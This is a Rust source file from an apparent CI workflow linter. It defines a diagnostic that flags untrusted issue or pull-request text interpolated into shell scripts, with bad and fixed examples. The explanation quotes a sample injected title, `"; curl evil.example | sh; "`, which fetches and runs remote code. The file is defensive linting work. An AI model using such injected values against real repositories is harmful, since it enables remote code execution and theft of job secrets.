//! A value that strangers choose, as code.

use crate::diagnostics::{Code, Diag};
use crate::source::Span;

/// The code and its page.
pub static CODE: Code = Code {
    id: "W0707",
    title: "text of strangers in a script",
    page: r#"
GitHub writes the value of `${{ }}` into a script before the shell reads it. Whoever opens an issue or a pull request chooses its title, its text and the
name of its branch: a title such as `"; curl evil.example | sh; "` is run, with the rights and the secrets of the job.

Pipelay gives such expressions to variables by itself, as the pass `harden`, where it knows that the shell does the same with them. It does not
know so where the text is read as code once more, by `eval`, `bash -c`, `ssh` or an interpreter, in arithmetic, in a here-document without
expansion, and in shells other than bash, sh and python. There the script has to be another.

## Bad
```pipe
on issues

job greet: bash -c 'echo "${{ github.event.issue.title }}"'
```

## Good
```pipe
on issues

job greet: bash -c 'echo "$1"' greet "${{ github.event.issue.title }}"
```
"#,
};

/// `expr`, at `at`, is code in a script; `variable` could have its value, which is new where the step has no such one.
pub fn script_injection(expr: &str, variable: &str, is_new: bool, at: Span) -> Diag {
    let help = if is_new {
        format!("give the step `env {{ {variable}: ${{{{ {expr} }}}} }}`, and the script the variable, quoted: `\"${variable}\"`")
    } else {
        format!("give the script the variable, quoted: `\"${variable}\"`")
    };
    Diag::new(&CODE, format!("whoever sets `{expr}` writes into the script")).label(at, "becomes a part of the code").help(help)
}
